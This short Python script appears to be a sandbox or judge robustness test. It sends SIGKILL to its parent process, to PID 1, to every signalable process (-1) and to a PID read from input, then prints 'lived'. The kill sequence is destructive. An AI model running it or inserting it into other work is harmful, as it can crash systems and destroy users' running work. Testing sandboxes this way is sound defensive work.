import os
import signal

input()
for target in (os.getppid(), 1, -1, int(input())):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
print("lived")
